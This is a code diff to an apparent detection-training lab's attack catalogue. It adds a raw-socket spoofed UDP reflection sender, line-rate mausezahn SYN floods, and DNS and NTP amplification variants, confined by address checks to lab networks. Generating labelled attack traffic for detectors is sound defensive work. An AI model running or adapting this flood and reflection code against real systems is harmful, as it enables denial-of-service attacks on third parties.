@@ -2,16 +2,18 @@
 
 This module owns `CATALOGUE` (a list of `Variant`) and the small pieces an attack command needs that the lab does
 not ship: per-episode word lists cut to the episode's size, DNS query files and a DNS query payload, and a
-slowloris and a spoofing SYN flooder of its own (`python -m packetclip_training.lab.attacks slowloris|synflood ...`). It does not build namespaces,
-start daemons, capture or label (see `topology`, `services`, `capture`, `runner`): it only turns a `LabContext`
-and a scale into an argv that runs inside the attacker namespace.
+slowloris, a spoofing SYN flooder and a spoofing reflection sender of its own
+(`python -m packetclip_training.lab.attacks slowloris|synflood|reflect ...`). It does not build namespaces, start
+daemons, capture or label (see `topology`, `services`, `capture`, `runner`): it only turns a `LabContext` and a
+scale into an argv that runs inside the attacker namespace.
 
 Every command is bounded twice: in packets (hping3 `-c`, nmap port lists and `--max-retries`, hydra word-list
 sizes, dnsperf `-n`, slowhttptest `-l` ...) and in seconds (each argv runs under `timeout`, and the runner kills
 the process group at `Variant.deadline(scale)`). Every target comes from the `LabContext`. Spoofing stays inside
 the lab: floods "from many addresses" draw their sources from a block of `topology.SPOOF_NET` (no lab host uses
 it; the router drops whatever is sent back to it), reflections spoof a lab server's address towards the lab's
-reflector; t50 is always given `--saddr` (it would otherwise spoof random public sources, and silently ignores a
+reflector, at its own address or at a block of `topology.REFLECTOR_NET`, whose every address it answers from;
+t50 is always given `--saddr` (it would otherwise spoof random public sources, and silently ignores a
 CIDR there), hping3 never `--rand-source`. Such variants name the source the sensor sees (`label_source`), which
 the runner writes to labels.tsv instead of the attacker's address.
 
@@ -37,7 +39,7 @@ from dataclasses import dataclass, field
 from pathlib import Path
 from typing import TYPE_CHECKING
 
-from packetclip_training.lab.topology import SPOOF_NET, is_lab_address
+from packetclip_training.lab.topology import LAB_NETS, REFLECTOR_NET, SPOOF_NET, is_lab_address
 
 if TYPE_CHECKING:
     from packetclip_training.lab.context import LabContext
@@ -317,13 +319,23 @@ def hping3_dns(count: int) -> Builder:
     return build
 
 
-def spoof_block(prefix: int, index: int) -> str:
-    """Sub-block number `index` (of size /`prefix`) of the spoof block: the sources of one spoofing variant, kept
-    apart from the other variants' so that labels.tsv names exactly the addresses an episode used."""
-    blocks = SPOOF_NET.subnets(new_prefix=prefix)
+def _sub_block(network: ipaddress.IPv4Network, prefix: int, index: int) -> str:
+    blocks = network.subnets(new_prefix=prefix)
     for _ in range(index):
         next(blocks)
     return str(next(blocks))
+
+
+def spoof_block(prefix: int, index: int) -> str:
+    """Sub-block number `index` (of size /`prefix`) of the spoof block: the sources of one spoofing variant, kept
+    apart from the other variants' so that labels.tsv names exactly the addresses an episode used."""
+    return _sub_block(SPOOF_NET, prefix, index)
+
+
+def reflector_block(prefix: int, index: int) -> str:
+    """Sub-block number `index` (of size /`prefix`) of the reflector block: the reflectors of one variant, its own
+    for the same reason as `spoof_block`."""
+    return _sub_block(REFLECTOR_NET, prefix, index)
 
 
 def python_synflood(
@@ -402,10 +414,11 @@ def hping3_reflect(service: str, port: int, payload: Callable[[LabContext], byte
     return build
 
 
-def nping_reflect(service: str, port: int, payload: Callable[[LabContext], bytes], victim: str, victim_port: int,
-                  count: int, rate: int) -> Builder:  # fmt: skip
-    """nping sending one request payload to the reflector in the victim's name (`-S`) from one fixed victim port
-    (`-g`): the answers reach the victim as one long connection, the shape of an attack aimed at one port."""
+def nping_reflect(reflectors: Callable[[LabContext], str], port: int, payload: Callable[[LabContext], bytes],
+                  victim: str, victim_port: int, count: int, rate: int, minimum: int = 20) -> Builder:  # fmt: skip
+    """nping sending one request payload in the victim's name (`-S`) from one fixed victim port (`-g`) to the
+    reflector, or to every address of a reflector block in turn: the shape of an attack aimed at one port, one
+    long connection per reflector address. `count` (at least `minimum`) is nping's rounds: probes per address."""
 
     def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
         return [
@@ -422,11 +435,43 @@ def nping_reflect(service: str, port: int, payload: Callable[[LabContext], bytes
             "--rate",
             str(rate),
             "-c",
-            str(scaled(count, scale, 20)),
+            str(scaled(count, scale, minimum)),
             "-e",
             lab.attacker_iface,
             "-q",
-            lab.reflectors[service],
+            reflectors(lab),
+        ]
+
+    return build
+
+
+def python_reflect(victim: str, port: int, payload: Callable[[LabContext], bytes], tag: str, prefix: int,
+                   index: int, count: int, rate: int) -> Builder:  # fmt: skip
+    """The reflection sender of this module: one request payload at a time to the next address of one reflector
+    block (each address once before any twice), in the victim's name from a random ephemeral victim port: the
+    answers reach the victim from as many sources as the block has addresses, each a new connection."""
+
+    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
+        path = lab.workdir / f"reflect-{tag}.bin"
+        path.write_bytes(payload(lab))
+        return [
+            "python3",
+            "-m",
+            "packetclip_training.lab.attacks",
+            "reflect",
+            lab.servers[victim],
+            "--payload",
+            str(path),
+            "--dport",
+            str(port),
+            "--reflector-net",
+            reflector_block(prefix, index),
+            "--count",
+            str(scaled(count, scale, 50)),
+            "--rate",
+            str(rate),
+            "--seconds",
+            f"{max(1.0, seconds - 1):.0f}",
         ]
 
     return build
@@ -531,6 +576,43 @@ def servers(*names: str) -> Callable[[LabContext, float], list[str]]:
 
 def sweep(lab: LabContext, scale: float) -> list[str]:
     return [sweep_block(lab.sweep_cidr, scale)]
+
+
+def mausezahn_syn(
+    server: str, count: int, dport: int | None = None, sport: int = 40000, first_sport: int = 1025
+) -> Builder:
+    """mausezahn (netsniff-ng) sending `count` SYNs back to back, as fast as the link takes them: to `dport` from
+    consecutive source ports (each its own connection), or with `dport` None from one source port to consecutive
+    destination ports. Its ranges are its packet bound (one packet per value, `-c 1`). It builds its own frames,
+    so it is given the adapter and the router's MAC, as masscan is. hping3 and the lab's own flooder send a
+    few thousand SYNs a second, slower than nmap's -T4 bursts; real floods (and t50) run at line rate."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        n = scaled(count, scale, 50)
+        if dport is None:
+            ports = f"sp={sport},dp=1-{n}"
+        else:
+            ports = f"sp={first_sport}-{first_sport + n - 1},dp={dport}"
+        return [
+            "mausezahn",
+            lab.attacker_iface,
+            "-q",
+            "-c",
+            "1",
+            "-d",
+            "0",
+            "-b",
+            lab.gateway_mac,
+            "-A",
+            lab.attacker_ip,
+            "-B",
+            lab.servers[server],
+            "-t",
+            "tcp",
+            f"{ports},flags=syn",
+        ]
+
+    return build
 
 
 def masscan(ports: int, rate: int, wait: int) -> Builder:
@@ -907,6 +989,24 @@ _FLOODS: list[Variant] = [
     ),
     _v(
         "syn_flood",
+        "mausezahn-80-line-rate",
+        "mausezahn",
+        mausezahn_syn("web", 20000, dport=80),
+        30,
+        "many",
+        "SYNs to nginx :80 back to back at line rate (hundreds of thousands a second), one source port each",
+    ),
+    _v(
+        "syn_flood",
+        "mausezahn-dport-sweep-line-rate",
+        "mausezahn",
+        mausezahn_syn("web2", 20000),
+        30,
+        "many",
+        "SYNs from one source port to consecutive destination ports at line rate: faster than any scan",
+    ),
+    _v(
+        "syn_flood",
         "t50-syn-random-dports",
         "t50",
         t50("TCP", "--syn", count=20000, target=_server("ssh")),
@@ -992,12 +1092,62 @@ _FLOODS: list[Variant] = [
         "udp_flood",
         "nping-dns-reflect-any-port80",
         "nping",
-        nping_reflect("dns", 53, lambda lab: dns_reflection_query(lab, "ANY"), "web", 80, 10000, 800),
+        nping_reflect(
+            reflector("dns"), 53, lambda lab: dns_reflection_query(lab, "ANY"), "web", 80, 10000, 800
+        ),
         30,
         "few",
         "DNS reflection of ANY queries aimed at one port (:80 of nginx's host): one long stream of answers",
         heldout=True,
         label_source=reflector("dns"),
+    ),
+    # Reflection through many reflectors: real floods arrive from thousands of open servers, one or a few answers
+    # each. The reflector answers from every address of the variant's own block of topology.REFLECTOR_NET, which
+    # labels.tsv names (hosts.tsv lists the whole block as the reflector's). python3 is this module's sender;
+    # the held-out nping walks its block in order, all from one victim port.
+    _v(
+        "udp_flood",
+        "python-dns-reflect-txt-2k",
+        "python3",
+        python_reflect(
+            "web2", 53, lambda lab: dns_reflection_query(lab, "TXT"), "dns-txt", 21, 0, 10000, 1000
+        ),
+        30,
+        "many",
+        "DNS reflection through 2,046 reflector addresses: ~1,200-byte TXT answers to apache2's host's ephemeral "
+        "ports at 1,000/s, each reflector answering once before any answers twice",
+        label_source=lambda _lab: reflector_block(21, 0),
+    ),
+    _v(
+        "udp_flood",
+        "python-ntp-reflect-1k",
+        "python3",
+        python_reflect("mqtt", 123, lambda _lab: ntp_client_request(), "ntp", 22, 2, 15000, 1500),
+        30,
+        "many",
+        "NTP reflection through 1,022 reflector addresses: 48-byte replies to the MQTT broker's host at 1,500/s",
+        label_source=lambda _lab: reflector_block(22, 2),
+    ),
+    _v(
+        "udp_flood",
+        "nping-dns-reflect-any-4k-port443",
+        "nping",
+        nping_reflect(
+            lambda _lab: reflector_block(20, 1),
+            53,
+            lambda lab: dns_reflection_query(lab, "ANY"),
+            "web",
+            443,
+            2,
+            400,
+            minimum=1,
+        ),
+        30,
+        "many",
+        "DNS reflection of ANY queries through the 4,096 addresses of a reflector block in turn, twice, at 400/s, "
+        "aimed at one port (:443 of nginx's host): about two answers per reflector",
+        heldout=True,
+        label_source=lambda _lab: reflector_block(20, 1),
     ),
 ]
 
@@ -1669,6 +1819,74 @@ def run_synflood(
     return {"sent": sent, "sources": len(sources)}
 
 
+# ---------------------------------------------------------------------------------------------------------------
+# A reflection sender of its own (run as `python -m packetclip_training.lab.attacks reflect VICTIM ...`)
+# ---------------------------------------------------------------------------------------------------------------
+
+# Linux's default ephemeral port range (net.ipv4.ip_local_port_range): the ports a victim's own queries would use.
+_EPHEMERAL_PORTS = (32768, 61000)
+# The largest request that fits one datagram on the lab's 1,500-byte links.
+_MAX_REQUEST = 1500 - 20 - 8
+
+
+def udp_packet(src: bytes, dst: bytes, sport: int, dport: int, payload: bytes, ttl: int, ip_id: int) -> bytes:
+    """An IPv4 UDP datagram with its UDP checksum; the kernel fills in the IP checksum (IP_HDRINCL)."""
+    length = 8 + len(payload)
+    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, length)
+    checksum = _checksum(pseudo + struct.pack("!HHHH", sport, dport, length, 0) + payload) or 0xFFFF
+    ip = struct.pack(
+        "!BBHHHBBH4s4s", 0x45, 0, 20 + length, ip_id, 0x4000, ttl, socket.IPPROTO_UDP, 0, src, dst
+    )
+    return ip + struct.pack("!HHHH", sport, dport, length, checksum) + payload
+
+
+def run_reflect(
+    victim: str, payload: bytes, dport: int, reflector_net: str, count: int, rate: float, seconds: float
+) -> dict[str, int]:
+    """Send up to `count` copies of the request `payload` at `rate` per second for at most `seconds`, each in the
+    name of `victim` (a lab host) from a random ephemeral port, to port `dport` of the next address of
+    `reflector_net` (inside the lab's reflector block): every address once, in a random order, before any twice,
+    as a list of reflectors is used. Returns how many were sent and to how many reflectors."""
+    target = ipaddress.IPv4Address(victim)
+    if not any(target in net for net in LAB_NETS):
+        raise ValueError(f"victim {victim} is not a lab host")
+    network = ipaddress.IPv4Network(reflector_net)
+    if not network.subnet_of(REFLECTOR_NET) or network.num_addresses < 4:
+        raise ValueError(
+            f"reflector block {reflector_net} is not inside the lab's reflector block {REFLECTOR_NET}"
+        )
+    if not 0 < len(payload) <= _MAX_REQUEST or not 0 < dport < 65536:
+        raise ValueError(f"a request of {len(payload)} bytes to port {dport} is no single UDP datagram")
+    rng = random.Random()
+    reflectors = list(network.hosts())
+    rng.shuffle(reflectors)
+    src = target.packed
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    start = time.monotonic()
+    deadline = start + seconds
+    sent = 0
+    try:
+        while sent < count and time.monotonic() < deadline:
+            reflector = reflectors[sent % len(reflectors)]
+            packet = udp_packet(
+                src,
+                reflector.packed,
+                rng.randrange(*_EPHEMERAL_PORTS),
+                dport,
+                payload,
+                64,
+                rng.getrandbits(16),
+            )
+            sock.sendto(packet, (str(reflector), 0))
+            sent += 1
+            ahead = start + sent / rate - time.monotonic()  # paced as the SYN flooder is
+            if ahead > 0.002:
+                time.sleep(ahead)
+    finally:
+        sock.close()
+    return {"sent": sent, "reflectors": min(sent, len(reflectors))}
+
+
 def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(prog="python -m packetclip_training.lab.attacks")
     commands = parser.add_subparsers(dest="command", required=True)
@@ -1688,8 +1906,32 @@ def main(argv: list[str] | None = None) -> int:
     syn.add_argument("--rate", type=float, default=1000.0, help="SYNs per second")
     syn.add_argument("--ttl", default="64", help="TTL, or LOW-HIGH for one per source")
     syn.add_argument("--seconds", type=float, default=30.0, help="length of the flood at most")
+    reflect = commands.add_parser(
+        "reflect", help="requests in a victim's name to the addresses of a block of the lab's reflector range"
+    )
+    reflect.add_argument("victim", help="IPv4 address of the victim (the spoofed source)")
+    reflect.add_argument("--payload", type=Path, required=True, help="file holding one request")
+    reflect.add_argument("--dport", type=int, required=True, help="the reflectors' service port")
+    reflect.add_argument(
+        "--reflector-net", required=True, help=f"CIDR inside {REFLECTOR_NET}: the reflectors"
+    )
+    reflect.add_argument("--count", type=int, default=1000, help="requests to send at most")
+    reflect.add_argument("--rate", type=float, default=1000.0, help="requests per second")
+    reflect.add_argument("--seconds", type=float, default=30.0, help="length of the flood at most")
     args = parser.parse_args(argv)
     logging.basicConfig(level=logging.INFO, format="%(message)s")
+    if args.command == "reflect":
+        counts = run_reflect(
+            args.victim,
+            args.payload.read_bytes(),
+            args.dport,
+            args.reflector_net,
+            args.count,
+            args.rate,
+            args.seconds,
+        )
+        log.info("reflect %s: %s", args.victim, counts)
+        return 0 if counts["sent"] else 1
     if args.command == "synflood":
         dport = None if args.dport == "random" else int(args.dport)
         counts = run_synflood(
